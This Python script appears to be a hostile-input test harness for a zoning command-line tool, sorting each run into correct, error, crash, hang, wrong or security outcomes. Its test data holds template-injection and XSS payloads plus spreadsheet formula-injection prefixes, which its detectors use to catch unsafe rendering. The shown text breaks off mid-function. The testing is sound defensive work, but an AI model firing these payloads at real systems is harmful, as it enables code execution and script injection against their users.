#!/usr/bin/env python
"""Hostile-input sweep for the ``zoning`` command line (issue 10).  Run by hand.

Generates several hundred hostile or careless inputs — deterministically, from
``--seed`` — into a temporary folder, runs the CLI on each in its own process
(timeout, address-space cap) and sorts every outcome into exactly one of

    correct       the expected result
    clear error   non-zero exit with a message, no Python traceback
    traceback     a Python traceback (or a crash by signal)
    hang          no answer within the timeout
    silent wrong  exit 0 (or a row status "ok") contradicting the known answer,
                  a lost row, an inconsistent output folder
    security      template code executed, a live formula, raw HTML/JS from user
                  text, a secret disclosed, a file outside the allowed folder read

Known answers come from the bundled data: ``zoning layers list --json`` names
the GeoPackages, which are read here with geopandas to place a footprint well
inside a 生态保护红线 feature of 贵阳 (any verdict but 不涉及 is right) and one
far from every layer (不涉及, confirmed by a calibration run).

The product is driven only through its command line (``ZONING_CMD`` below),
so the script survives the package's internal restructuring.

    python bench/hostile.py                      # everything, 2 jobs
    python bench/hostile.py --only txt,lists     # some categories
    python bench/hostile.py --json out.json      # every case with its outcome

Exit status 1 when any case is a traceback, hang, silent wrong or security.
PostGIS cases run when ZONING_TEST_PG_DSN is set, and are skipped otherwise.
"""

from __future__ import annotations

import argparse
import concurrent.futures as cf
import csv
import html
import io
import json
import math
import os
import random
import re
import resource
import shlex
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

#: How the product is invoked: the one line to change when the entry point moves
#: (e.g. to ``python -m zoning``).  "zoning" means the console script next to
#: sys.executable (or on PATH); HOSTILE_ZONING_CMD overrides it.
ZONING_CMD = ["zoning"]

REPO = Path(__file__).resolve().parents[1]
OUTCOMES = ("correct", "clear error", "traceback", "hang", "silent wrong", "security")
BAD = ("traceback", "hang", "silent wrong", "security")
CATEGORIES = ("txt", "geometry", "archives", "lists", "catalogs", "outputs", "postgis")
NI = "not_intersecting"


def _resolve_cmd() -> list[str]:
    if os.environ.get("HOSTILE_ZONING_CMD"):
        return shlex.split(os.environ["HOSTILE_ZONING_CMD"])
    cmd = list(ZONING_CMD)
    if cmd[0] == "zoning":
        beside = Path(sys.executable).with_name("zoning")
        if beside.exists():
            cmd[0] = str(beside)
        elif shutil.which("zoning"):
            cmd[0] = shutil.which("zoning")
        else:
            cmd = [sys.executable, "-m", "zoning.cli"] + cmd[1:]
    return cmd


CMD: list[str] = []
OPTS = argparse.Namespace(timeout=60.0, dos_timeout=30.0, mem_gb=3.0)

# --------------------------------------------------------------------------- running


@dataclass
class Run:
    args: list
    rc: int | None
    stdout: str
    stderr: str
    seconds: float
    timed_out: bool = False

    @property
    def text(self) -> str:
        return self.stdout + "\n" + self.stderr


def _limits():  # preexec_fn: runs in the child before exec
    cap = int(OPTS.mem_gb * 1024 ** 3)
    resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))


def _env() -> dict:
    env = dict(os.environ)
    env.update(COLUMNS="160", NO_COLOR="1", TERM="dumb", PYTHONIOENCODING="utf-8",
               PYTHONFAULTHANDLER="1", HOSTILE_CANARY=CANARY_ENV)
    if (REPO / "zoning").is_dir() and not env.get("HOSTILE_NO_PYTHONPATH"):
        env["PYTHONPATH"] = str(REPO) + (os.pathsep + env["PYTHONPATH"]
                                         if env.get("PYTHONPATH") else "")
    return env


CANARY_ENV = "HOSTILE-ENV-CANARY-5f1c9a"
_READ_CAP = 4_000_000


def _read(path: Path) -> str:
    with open(path, "rb") as f:
        data = f.read(_READ_CAP)
    return data.decode("utf-8", errors="replace")


def start(args, cwd=None, log_dir: Path | None = None):
    """Start the CLI; returns (Popen, stdout path, stderr path, t0)."""
    log_dir = log_dir or Path(tempfile.mkdtemp(prefix="run-", dir=WORK.logs))
    log_dir.mkdir(parents=True, exist_ok=True)
    o, e = log_dir / "stdout", log_dir / "stderr"
    with open(o, "wb") as fo, open(e, "wb") as fe:
        p = subprocess.Popen(CMD + [str(a) for a in args], cwd=cwd, stdout=fo, stderr=fe,
                             stdin=subprocess.DEVNULL, env=_env(), preexec_fn=_limits,
                             start_new_session=True)
    return p, o, e, time.monotonic()


def finish(p, o, e, t0, args, timeout=None) -> Run:
    timeout = OPTS.timeout if timeout is None else timeout
    timed_out = False
    try:
        p.wait(timeout=max(0.1, timeout - (time.monotonic() - t0)))
    except subprocess.TimeoutExpired:
        timed_out = True
        try:
            os.killpg(p.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        p.wait()
    return Run(args=[str(a) for a in args], rc=p.returncode, stdout=_read(o), stderr=_read(e),
               seconds=time.monotonic() - t0, timed_out=timed_out)


def run_cli(args, cwd=None, timeout=None) -> Run:
    p, o, e, t0 = start(args, cwd)
    return finish(p, o, e, t0, args, timeout)


# --------------------------------------------------------------------------- classification

_FRAME = re.compile(r'File "([^"]+)", line (\d+), in (\S+)')


def tb_signature(text: str) -> str:
    """'ExcType: message @ zoning/x.py:N func (innermost: lib/y.py:M)' for the last traceback."""
    i = text.rfind("Traceback (most recent call last)")
    block = text[i:] if i >= 0 else text
    frames = _FRAME.findall(block)
    lines = block.splitlines()
    last = max((i for i, ln in enumerate(lines) if ln.lstrip().startswith('File "')), default=-1)
    exc = next((ln.strip() for ln in lines[last + 1:] if ln and not ln[0].isspace()), "")
    zf = [f for f in frames if "/zoning/" in f[0] and "site-packages" not in f[0]]
    where = ""
    if zf:
        f = zf[-1]
        where = f" @ zoning/{f[0].split('/zoning/', 1)[1]}:{f[1]} {f[2]}"
    if frames and (not zf or frames[-1] != zf[-1]):
        f = frames[-1]
        short = f[0].split("site-packages/", 1)[-1]
        where += f" (innermost {short}:{f[1]} {f[2]})"
    return (exc[:220] or "traceback") + where


def base_outcome(run: Run):
    """(outcome, reason) for a hang or crash, else None."""
    if run.timed_out:
        return "hang", f"no answer within {run.seconds:.0f} s (killed)"
    if "Traceback (most recent call last)" in run.text:
        return "traceback", tb_signature(run.text)
    if "Fatal Python error" in run.text or (run.rc is not None and run.rc < 0):
        what = (f"killed by signal {-run.rc} ({signal.Signals(-run.rc).name})"
                if run.rc is not None and run.rc < 0 else f"exit {run.rc}")
        return "traceback", f"crashed: {what}{_fault_where(run.text)}"
    return None


def _fault_where(text: str) -> str:
    """' in lib.py:N f @ zoning/x.py:M g' from a faulthandler dump (main thread, innermost first)."""
    i = text.find("Fatal Python error")
    if i < 0:
        return ""
    block = text[i:]
    j = block.find("Current thread")
    if j >= 0:
        block = block[j:].split("\n\n")[0]
    frames = re.findall(r'File "([^"]+)", line (\d+) in (\S+)', block)
    if not frames:
        return ""
    first = frames[0]
    out = f" in {first[0].split('site-packages/', 1)[-1]}:{first[1]} {first[2]}"
    z = next((f for f in frames if "/zoning/" in f[0] and "site-packages" not in f[0]), None)
    if z:
        out += f" @ zoning/{z[0].split('/zoning/', 1)[1]}:{z[1]} {z[2]}"
    return out


_PROGRESS = re.compile(r"[━╸╺]{3,}")


def error_message(run: Run) -> str:
    d = parse_json(run.stdout) if run.stdout.lstrip().startswith("{") else None
    if isinstance(d, dict) and d.get("error"):
        return f"(JSON status {d.get('status')}) {d['error']}"[:240]
    lines = [ln.strip() for ln in run.stderr.splitlines() if ln.strip()]
    lines = [ln for ln in lines if not _PROGRESS.search(ln)]
    for ln in lines:
        if "错误" in ln or "Error" in ln or "error" in ln:
            return ln[:240]
    if lines:
        return lines[-1][:240]
    out = [ln.strip() for ln in run.stdout.splitlines() if ln.strip()]
    return (out[-1][:240] if out else "")


def refusal(run: Run, expect: str):
    msg = error_message(run)
    if not msg:
        return "traceback", f"exit {run.rc} with no message at all", ""
    note = "refused, but a verdict was expected" if expect in ("hit", "clean", "ok") else ""
    return "clear error", f"exit {run.rc}: {msg}", note


def layer_state(d: dict, kind="eco_redline"):
    for lr in d.get("layers") or []:
        if lr.get("kind") == kind:
            return lr.get("state")
    return None


def judge_result(d: dict, expect: str):
    """(outcome, reason, note) of one zoning.check/1 object against an expectation.

    hit: a red-line site, any state but 不涉及 (data_missing counts: fails closed);
    clean: 不涉及 everywhere; clean_eco: 不涉及 for the red line (attributes may decide the rest),
    clean_eco+udb=STATE: also STATE for the 城镇开发边界 layer;
    error: must be refused; X|error: X or a refusal;
    not_clean|error: anything but 不涉及, or a refusal; any: no claim.
    """
    status, state = d.get("status"), d.get("state")
    if status != "ok":
        note = "row refused, but a verdict was expected" if expect in ("hit", "clean", "ok") \
            else ""
        return "clear error", f"status {status}: {str(d.get('error'))[:200]}", note
    eco = layer_state(d)
    desc = f"verdict {state} (红线 {eco})"
    if expect == "error":
        return "silent wrong", f"accepted, {desc}; it must be refused", ""
    if expect in ("hit", "hit|error", "not_clean|error"):
        ok = state not in (None, NI) and (eco not in (None, NI) or
                                          (eco is None and state == "data_missing"))
        return ("correct", desc, "") if ok else (
            "silent wrong", f"a footprint inside a red line read as {desc}", "")
    if expect in ("clean", "clean|error"):
        # far from every layer: 不涉及, or — the row giving no 行业代码 — only the 环境管控单元
        # failing closed on its 准入清单 (a ban that may apply cannot be cleared)
        others = {lr.get("kind"): lr.get("state") for lr in d.get("layers") or []}
        unit_only = state == "needs_review" and others.pop("control_unit", None) == \
            "needs_review" and all(v == NI for v in others.values())
        ok = (state == NI or unit_only) and eco == NI
        return ("correct", desc, "") if ok else (
            "silent wrong", f"a site far from every layer read as {desc}", "")
    if expect.startswith("clean_eco"):  # attributes may decide the verdict
        if eco != NI:
            return "silent wrong", f"a site far from the red line read as {desc}", ""
        m = re.search(r"\+udb=(\w+)", expect)
        udb = layer_state(d, "urban_boundary")
        if m and udb != m.group(1):
            return "silent wrong", f"城镇开发边界 {udb}, by the rules {m.group(1)} ({desc})", ""
        return "correct", f"{desc}, 城镇开发边界 {udb}", ""
    return "correct", desc, ""


def parse_json(text: str):
    try:
        return json.loads(text)
    except ValueError:
        i = text.find("{")
        if i >= 0:
            try:
                return json.loads(text[i:])
            except ValueError:
                return None
    return None


# --------------------------------------------------------------------------- security scanning

#: template payloads: each goes between the markers XQ<k>Q … QX
TEMPLATES = [
    "{{ 7*7 }}",
    "{% if %}",
    "{{''.__class__}}",
    "<script>alert(1)</script>",
    "`);alert(1);(`",
    "${7*7}",
    "{% if 1 %}IFTRUE{% endif %}",
    "{{ cycler.__init__.__globals__.os.getpid() }}",
    "\"><img src=x onerror=alert(1)>",
    "{{ 7*'7' }}",
]
_EVAL = {"{{ 7*7 }}": "49", "{{''.__class__}}": "<class 'str'>", "${7*7}": "49",
         "{% if 1 %}IFTRUE{% endif %}": "IFTRUE", "{{ 7*'7' }}": "7777777"}
MARKER = re.compile(r"XQ(\d+)Q(.{0,400}?)QX", re.S)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def marked(k: int) -> str:
    return f"XQ{k}Q{TEMPLATES[k % len(TEMPLATES)]}QX"


def _sanitize(s: str) -> str:
    return "".join(ch if ch.isalnum() or ch in "-_" else "_" for ch in s)


def _unescape(s: str) -> str:
    for _ in range(4):
        t = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), s)
        t = (t.replace('\\"', '"').replace("\\'", "'").replace("\\/", "/")
             .replace("\\n", "\n").replace("\\\\", "\\"))
        t = html.unescape(t)
        if t == s:
            break
        s = t
    return s


def _js_state(src: str, stop: int) -> str:
    """Lexical state of JavaScript source at offset ``stop``: code, dq, sq, tpl, comment, regex."""
    i, state, prev, stack = 0, "code", "", []  # stack: brace depth per open ${
    while i < stop:
        c = src[i]
        if state == "code":
            if c in "\"'":
                state = "dq" if c == '"' else "sq"
            elif c == "`":
                state = "tpl"
            elif src.startswith("//", i):
                j = src.find("\n", i)
                if j < 0 or j >= stop:
                    return "comment"
                i = j
                continue
            elif src.startswith("/*", i):
                j = src.find("*/", i + 2)
                if j < 0 or j + 2 > stop:
                    return "comment"
                i = j + 2
                continue
            elif c == "/" and (prev == "" or prev in "(,=:[!&|?{};+-*%<>~^"):
                j, cls = i + 1, False
                while j < len(src):
                    ch = src[j]
                    if ch == "\\":
                        j += 2
                        continue
                    if ch == "[":
                        cls = True
                    elif ch == "]":
                        cls = False
                    elif (ch == "/" and not cls) or ch == "\n":
                        break
                    j += 1
                if j >= stop:
                    return "regex"
                i, prev = j + 1, "/"
                continue
            elif c == "{" and stack:
                stack[-1] += 1
            elif c == "}" and stack:
                if stack[-1] == 0:
                    stack.pop()
                    state = "tpl"
                    i += 1
                    continue
                stack[-1] -= 1
            if not c.isspace():
                prev = c
        elif state in ("dq", "sq"):
            if c == "\\":
                i += 2
                continue
            if (state == "dq" and c == '"') or (state == "sq" and c == "'"):
                state, prev = "code", c
            elif c == "\n":
                state = "code"
        elif state == "tpl":
            if c == "\\":
                i += 2
                continue
            if c == "`":
                state, prev = "code", "`"
            elif src.startswith("${", i):
                stack.append(0)
                state = "code"
                i += 2
                continue
        i += 1
    return state


_SCRIPT = re.compile(r"<script\b[^>]*>(.*?)</script>", re.S | re.I)


def _html_evidence(text: str, where: str, k: int, payload: str, m) -> str | None:
    raw = m.group(2)
    start, end = m.start(), m.end()
    for sm in _SCRIPT.finditer(text):
        if sm.start(1) <= start < sm.end(1):
            src = sm.group(1)
            a, b = start - sm.start(1), end - sm.start(1)
            s0, s1 = _js_state(src, a), _js_state(src, b)
            if s0 == "code":
                return f"{where}: user text sits in JavaScript code: {raw[:80]!r}"
            if s0 != s1:
                return f"{where}: user text breaks out of a JS {s0} string: {raw[:80]!r}"
            if s0 == "tpl" and "${" in raw:
                return f"{where}: ${{…}} inside a JS template literal is evaluated: {raw[:80]!r}"
            if "</script" in raw.lower():
                return f"{where}: raw </script> inside a script block: {raw[:80]!r}"
            return None
    # HTML text or attribute
    if "<" in raw and "<" in payload:
        return f"{where}: unescaped HTML from user text: {raw[:80]!r}"
    lt, gt = text.rfind("<", 0, start), text.rfind(">", 0, start)
    if lt > gt and ('"' in raw or "'" in raw) and ('"' in payload or "'" in payload):
        return f"{where}: unescaped quote inside an HTML tag: {raw[:80]!r}"
    return None


def template_evidence(text: str, where: str, kind: str, markers: dict) -> list[tuple[int, str]]:
    """Evidence that a marked template payload was rendered or lands raw in HTML/JS."""
    out = []
    for m in MARKER.finditer(text):
        k = int(m.group(1))
        if k not in markers:
            continue
        payload = markers[k]
        mid = _unescape(m.group(2))
        if kind in ("stdout", "stderr"):
            if payload in _EVAL and mid == _EVAL[payload]:
                out.append((k, f"{where}: {payload!r} rendered as {mid!r}"))
            elif "getpid" in payload and mid.isdigit():
                out.append((k, f"{where}: {payload!r} executed, rendered {mid!r}"))
            continue
        if mid not in (payload, _sanitize(payload)):
            if "{" in payload or "${" in payload:
                out.append((k, f"{where}: template {payload!r} rendered as {mid[:80]!r}"))
                continue
        if kind == "html":
            ev = _html_evidence(text, where, k, payload, m)
            if ev:
                out.append((k, ev))
    return out


@dataclass
class Scan:
    """What a run must not produce."""

    markers: dict = field(default_factory=dict)  # k -> template payload
    secrets: list = field(default_factory=list)  # strings that must not appear anywhere
    formulas: list = field(default_factory=list)  # payload strings that must not be live
    not_created: list = field(default_factory=list)  # paths that must not exist afterwards


def _xlsx_cells(path: Path):
    from openpyxl import load_workbook

    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


def scan_outputs(scan: Scan, run: Run | None, files: list[Path]) -> list[tuple[object, str]]:
    """[(key, evidence)]: key is a marker k, a formula payload, a secret, or None."""
    ev: list[tuple[object, str]] = []
    texts = []
    if run is not None:
        texts += [("stdout", run.stdout, "stdout"), ("stderr", run.stderr, "stderr")]
    paths = []
    for f in files:
        f = Path(f)
        if f.is_dir():
            paths += [p for p in sorted(f.rglob("*")) if p.is_file() and not p.is_symlink()]
        elif f.is_file():
            paths.append(f)
    for p in paths:
        try:
            data = p.read_bytes()[:60_000_000]
        except OSError:
            continue
        for s in scan.secrets:
            if s.encode() in data:
                ev.append((s, f"secret {s[:24]!r}… disclosed in {p.name}"))
        suf = p.suffix.lower()
        if suf in (".html", ".htm", ".json", ".csv", ".log", ".txt", ".yaml"):
            texts.append((p.name, data.decode("utf-8", errors="replace"),
                          "html" if suf in (".html", ".htm") else "text"))
        elif suf == ".xlsx":
            try:
                cells = list(_xlsx_cells(p))
            except Exception as e:  # noqa: BLE001 - a corrupt workbook is itself a finding
                ev.append((None, f"[integrity] {p.name} cannot be opened: "
                                 f"{type(e).__name__}: {e}"[:200]))
                continue
            strings = []
            for sheet, c in cells:
                v = c.value
                if c.data_type == "f" or (isinstance(v, str) and v.startswith("=")
                                          and c.data_type != "s"):
                    key = next((f for f in scan.formulas if str(v).lstrip("=") in f or
                                f.lstrip("=") in str(v)), None)
                    ev.append((key, f"{p.name}!{sheet}!{c.coordinate} is a live formula: "
                                    f"{str(v)[:60]!r}"))
                if isinstance(v, str):
                    strings.append(v)
                    if len(v) > 32767:
                        ev.append((None, f"[integrity] {p.name}!{sheet}!{c.coordinate}: {len(v)} "
                                         "characters, over Excel's 32,767 limit (Excel reports "
                                         "the workbook as corrupt)"))
            texts.append((p.name, "\n".join(strings), "text"))
        if suf == ".csv" and scan.formulas:
            try:
                rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig", errors="replace"))))
            except csv.Error:
                rows = []
            for row in rows:
                for v in row:
                    for f in scan.formulas:
                        if v and v[0] in FORMULA_START and f.strip("\t\r") in v:
                            ev.append((f, f"{p.name}: field {v[:40]!r} starts with {v[0]!r}: a "
                                          "live formula when opened in a spreadsheet"))
    for name, text, kind in texts:
        for s in scan.secrets:  # files were searched as bytes above; xlsx only as cell text
            if (kind in ("stdout", "stderr") or name.endswith(".xlsx")) and s in text:
                ev.append((s, f"secret {s[:24]!r}… disclosed in {name}"))
        if scan.markers:
            ev += template_evidence(text, name, kind, scan.markers)
        if kind == "html" and "<script>alert(1)" in text:
            ev.append((None, f"{name}: raw <script>alert(1) in the page"))
    for p in scan.not_created:
        if Path(p).exists() or Path(p).is_symlink():
            ev.append((str(p), f"{p} was created outside the output folder"))
    # one line per disclosed secret (naming every file), then de-duplicate, keep order
    where: dict = {}
    for k, e in ev:
        m = re.match(r"secret .*? disclosed (?:in|on) (.*)$", e)
        if m and k in scan.secrets:
            where.setdefault(k, []).append(m.group(1))
    seen, out = set(), []
    for k, e in ev:
        if k in where:
            e = f"secret {k[:24]!r}… disclosed in {', '.join(dict.fromkeys(where[k]))}"
        if (k, e) not in seen:
            seen.add((k, e))
            out.append((k, e))
    return out


def ev_outcome(evidence: list[str]) -> str:
    """security, unless every piece of evidence is an output-integrity problem."""
    return "silent wrong" if all(e.startswith("[integrity]") for e in evidence) else "security"


def judge_cli(run: Run, expect: str, scan: Scan | None = None, files=(), as_json=True):
    """(outcome, reason, note) of a check-style run."""
    if scan:
        ev = [e for _, e in scan_outputs(scan, run, list(files))]
        if ev:
            return ev_outcome(ev), "; ".join(ev[:3]), ""
    b = base_outcome(run)
    if b:
        return (*b, "")
    if run.rc != 0:
        return refusal(run, expect)
    if expect == "any" or not as_json:
        if expect == "error":
            return "silent wrong", "exit 0; it must be refused", ""
        return "correct", "exit 0", ""
    d = parse_json(run.stdout)
    if not isinstance(d, dict):
        return "silent wrong", f"exit 0 without a JSON result: {run.stdout[:120]!r}", ""
    return judge_result(d, expect)


# --------------------------------------------------------------------------- cases and tasks


@dataclass
class CaseInfo:
    id: str
    category: str
    desc: str
    expect: str = ""
    outcome: str = ""
    reason: str = ""
    note: str = ""
    seconds: float = 0.0


@dataclass
class Task:
    """A unit of work for the pool: runs one or more cases, returns {id: (outcome, reason, note)}."""

    cases: list
    fn: Callable[[], dict]
    weight: float = 1.0  # expected seconds; heavy tasks are started first


TASKS: list[Task] = []


def add(cid, category, desc, fn, expect="", weight=2.0):
    """A single-case task; ``fn()`` returns (outcome, reason[, note])."""
    info = CaseInfo(cid, category, desc, expect)

    def run():
        r = fn()
        return {cid: tuple(r) + ("",) * (3 - len(r))}

    TASKS.append(Task([info], run, weight))
    return info


def add_check(cid, category, desc, args, expect, scan=None, files=(), cwd=None, weight=2.0,
              as_json=True, cmd="check", dos=False):
    """A case running ``zoning <cmd> args``; ``dos``: expected to hang or blow up (short timeout)."""
    args = [cmd, *[str(a) for a in args]]
    if as_json and cmd == "check" and "--json" not in args:
        args.append("--json")
    if dos:
        weight = max(weight, OPTS.dos_timeout)

    def fn():
        run = run_cli(args, cwd=cwd, timeout=OPTS.dos_timeout if dos else None)
        return judge_cli(run, expect, scan, files, as_json=as_json and cmd == "check")

    return add(cid, category, desc, fn, expect, weight)


class Work:
    root: Path
    logs: Path
    files: Path
    lists: Path
    outs: Path
    outside: Path


WORK = Work()


def wpath(*parts) -> Path:
    p = WORK.files.joinpath(*parts)
    p.parent.mkdir(parents=True, exist_ok=True)
    return p


def out_dir(name: str) -> Path:
    p = WORK.outs / name
    if p.exists():
        shutil.rmtree(p)
    return p


# --------------------------------------------------------------------------- known answers


class Known:
    """Footprints whose answer is known from the bundled GeoPackages."""

    catalogs: dict  # region -> catalog path
    layers: list  # `zoning layers list --json`
    red_ll: object  # 100 m box well inside a guiyang red-line feature, EPSG:4490
    red_gk: object  # the same in EPSG:4524 (3° GK zone 36, prefixed eastings)
    red_id: str
    clean_ll: object
    clean_gk: object
    outside_ll: object  # 100 m box 1.5 km from every layer, outside the UDB
    outside_gk: object
    region_ll: object  # guiyang districts (union), EPSG:4490
    region_gk: object
    to_gk: Callable
    to_ll: Callable


K = Known()


def _layer_rows(kind, region="guiyang"):
    return [r for r in K.layers if r["kind"] == kind and r["region"] == region]


def _read_layer(row):
    import geopandas as gpd
    import yaml

    cat = yaml.safe_load(Path(row["catalog"]).read_text("utf-8"))
    where = (cat["layers"].get(row["layer"]) or {}).get("where")
    return gpd.read_file(row["path"], layer=row["source_layer"], where=where)


def setup_known(seed: int):
    import shapely
    from pyproj import Transformer

    run = run_cli(["layers", "list", "--json"])
    K.layers = parse_json(run.stdout) if run.rc == 0 else None
    if not isinstance(K.layers, list):
        sys.exit(f"cannot list the layers ({' '.join(CMD)} layers list --json): "
                 f"{run.stderr[-600:] or run.stdout[-600:]}")
    K.catalogs = {r["region"]: Path(r["catalog"]) for r in K.layers}
    fwd = Transformer.from_crs(4490, 4524, always_xy=True)
    inv = Transformer.from_crs(4524, 4490, always_xy=True)
    K.to_gk = lambda g: shapely.transform(g, lambda xy: __import__("numpy").column_stack(
        fwd.transform(xy[:, 0], xy[:, 1])))
    K.to_ll = lambda g: shapely.transform(g, lambda xy: __import__("numpy").column_stack(
        inv.transform(xy[:, 0], xy[:, 1])))
    districts = _read_layer(_layer_rows("districts")[0]).to_crs(4524)
    K.region_gk = shapely.union_all(districts.geometry.values)
    K.region_ll = K.to_ll(K.region_gk)
    red = _read_layer(_layer_rows("eco_redline")[0])
    id_field = _layer_rows("eco_redline")[0]["id_field"]
    red_gk = red.to_crs(4524)
    order = red_gk.geometry.area.sort_values(ascending=False).index
    K.red_gk = None
    for i in order:
        feat = red_gk.geometry[i]
        core = feat.buffer(-120)
        if core.is_empty:
            continue
        c = shapely.ops.polylabel(max(getattr(core, "geoms", [core]), key=lambda g: g.area), 1.0)
        box = shapely.box(c.x - 50, c.y - 50, c.x + 50, c.y + 50)
        if feat.contains(box.buffer(60)) and K.region_gk.contains(box.buffer(3000)):
            K.red_gk, K.red_id = box, str(red.loc[i, id_field])
            break
    if K.red_gk is None:
        sys.exit("no guiyang red-line feature is large enough for a 100 m test footprint")
    K.red_ll = K.to_ll(K.red_gk)
    # the clean control site: inside a 城镇集中建设区 part of the 城镇开发边界 (1 km from its edge),
    # 1.5 km from every other statutory or constraint layer and from the other UDB partitions,
    # 3 km inside the region.  Outside the UDB a site whose construction kind is not declared
    # needs review (自然资发〔2023〕193号, fail-closed), so only a site inside the concentrated
    # zone is 不涉及 whatever the project; the "outside" site (1.5 km from every layer, the UDB
    # included) is kept for attribute rows whose 项目类型 decides the UDB verdict.
    rng = random.Random(seed)
    obstacles = [_read_layer(r).to_crs(4524)
                 for kind in ("eco_redline", "farmland", "protected_area", "shoreline", "constraint")
                 for r in _layer_rows(kind)]
    udb_row = _layer_rows("urban_boundary")[0]
    udb = _read_layer(udb_row).to_crs(4524)
    cat = yaml_load(Path(udb_row["catalog"]))
    part = ((cat["layers"].get(udb_row["layer"]) or {}).get("fields") or {}).get("partition")
    conc = udb[part].astype(str).str.contains("集中建设") if part in udb.columns else udb.index == -1
    inner = K.region_gk.buffer(-3000)
    K.clean_candidates = _free_boxes(rng, [g.buffer(-1000) for g in udb.geometry[conc]], inner,
                                     [*obstacles, udb[~conc]])
    outside = _free_boxes(rng, [inner], inner, [*obstacles, udb])
    if not K.clean_candidates or not outside:
        sys.exit("found no clean site in guiyang")
    K.clean_gk = K.clean_candidates[0]
    K.clean_ll = K.to_ll(K.clean_gk)
    K.outside_gk = outside[0]
    K.outside_ll = K.to_ll(K.outside_gk)


def yaml_load(path: Path):
    import yaml

    return yaml.safe_load(path.read_text("utf-8"))


def _free_boxes(rng, areas, inner, obstacles, n=8, clear=1500.0):
    """Up to n 100 m boxes centred in one of ``areas`` and inside ``inner``, ``clear`` m from
    every obstacle frame."""
    import shapely

    shapely.prepare(inner)
    out = []
    for area in sorted((a for a in areas if not a.is_empty), key=lambda a: -a.area):
        shapely.prepare(area)
        x0, y0, x1, y1 = area.bounds
        for _ in range(20000 // max(len(areas), 1)):
            p = shapely.Point(rng.uniform(x0, x1), rng.uniform(y0, y1))
            if not (area.contains(p) and inner.contains(p)):
                continue
            zone = p.buffer(clear)
            if all(len(o.sindex.query(zone, predicate="intersects")) == 0 for o in obstacles):
                out.append(shapely.box(p.x - 50, p.y - 50, p.x + 50, p.y + 50))
                if len(out) >= n:
                    return out
                break  # one per area first: spread the candidates
    return out


def calibrate():
    """Confirm the clean site reads 不涉及 (try the next candidate if not).

    With a 行业代码 given (I6510, software): without one, the 环境管控单元's 准入清单 cannot
    be decided and any site inside a unit reads 需补充信息 (fail-closed), wherever it is.
    """
    for box in K.clean_candidates:
        ll = K.to_ll(box)
        p = wpath("calibration", "clean.geojson")
        write_geojson(p, [ll])
        run = run_cli(["check", p, "--json", "--industry", "I6510"])
        d = parse_json(run.stdout) if run.rc == 0 else None
        if isinstance(d, dict) and d.get("state") == NI:
            K.clean_gk, K.clean_ll = box, ll
            return True, ""
    return False, (f"no candidate clean site reads {NI}: last {d and d.get('state')} "
                   f"{error_message(run)}")


# --------------------------------------------------------------------------- file builders


def ring_ll(g):
    import shapely

    return [list(c) for c in shapely.get_coordinates(g.exterior if hasattr(g, "exterior") else g)]


def jitter_box(base_gk, rng, max_shift=20.0, size=None):
    import shapely

    x0, y0, x1, y1 = base_gk.bounds
    cx, cy = (x0 + x1) / 2 + rng.uniform(-max_shift, max_shift), \
        (y0 + y1) / 2 + rng.uniform(-max_shift, max_shift)
    h = (size or rng.uniform(20, 70)) / 2
    return shapely.box(cx - h, cy - h, cx + h, cy + h)


def rand_poly_gk(base_gk, rng, rmax=40.0):
    """A random convex polygon inside the 100 m box around ``base_gk``'s centre."""
    import shapely

    c = base_gk.centroid
    n = rng.randint(4, 12)
    r = rng.uniform(10, rmax)
    angs = sorted(rng.uniform(0, 2 * math.pi) for _ in range(n))
    pts = [(c.x + r * rng.uniform(0.6, 1.0) * math.cos(a), c.y + r * rng.uniform(0.6, 1.0)
            * math.sin(a)) for a in angs]
    g = shapely.convex_hull(shapely.MultiPoint(pts))
    if g.geom_type != "Polygon" or g.area < 10:
        g = jitter_box(base_gk, rng)
    return g


def write_geojson(path: Path, geoms, props=None, crs=None, raw_geoms=None):
    import shapely

    feats = []
    for i, g in enumerate(geoms):
        geom = None if g is None else json.loads(shapely.to_geojson(g))
        if raw_geoms and i in raw_geoms:
            geom = raw_geoms[i]
        feats.append({"type": "Feature", "properties": (props[i] if props else {"id": i + 1}),
                      "geometry": geom})
    doc = {"type": "FeatureCollection", "features": feats}
    if crs:
        doc["crs"] = {"type": "name", "properties": {"name": crs}}
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    return path


def gdf(geoms, crs="EPSG:4490", **cols):
    import geopandas as gpd

    data = {k: v for k, v in cols.items()} or {"pid": list(range(1, len(geoms) + 1))}
    return gpd.GeoDataFrame(data, geometry=list(geoms), crs=crs)


def write_shp(path: Path, frame, encoding="UTF-8", cpg=True):
    path.parent.mkdir(parents=True, exist_ok=True)
    frame.to_file(path, driver="ESRI Shapefile", encoding=encoding, engine="pyogrio")
    if not cpg:
        for ext in (".cpg", ".CPG"):
            if path.with_suffix(ext).exists():
                path.with_suffix(ext).unlink()
    return path


def shp_members(path: Path):
    return [path.with_suffix(e) for e in (".shp", ".shx", ".dbf", ".prj", ".cpg")
            if path.with_suffix(e).exists()]


def write_zip(path: Path, members: dict, compress=zipfile.ZIP_DEFLATED):
    """members: arcname -> bytes or Path."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", compress) as zf:
        for name, data in members.items():
            if isinstance(data, Path):
                data = data.read_bytes()
            zf.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)) if compress ==
                        zipfile.ZIP_STORED else name, data)
    return path


def kml_text(folders, name_tpl="p{i}", doctype="", names=None):
    """folders: [[geom_ll, …], …]; each inner list becomes a <Folder>."""
    import shapely

    def coords(g):
        return " ".join(f"{x:.9f},{y:.9f}" for x, y in shapely.get_coordinates(g))

    def geom(g):
        if g.geom_type == "Point":
            return f"<Point><coordinates>{coords(g)}</coordinates></Point>"
        if g.geom_type == "LineString":
            return f"<LineString><coordinates>{coords(g)}</coordinates></LineString>"
        return ("<Polygon><outerBoundaryIs><LinearRing><coordinates>"
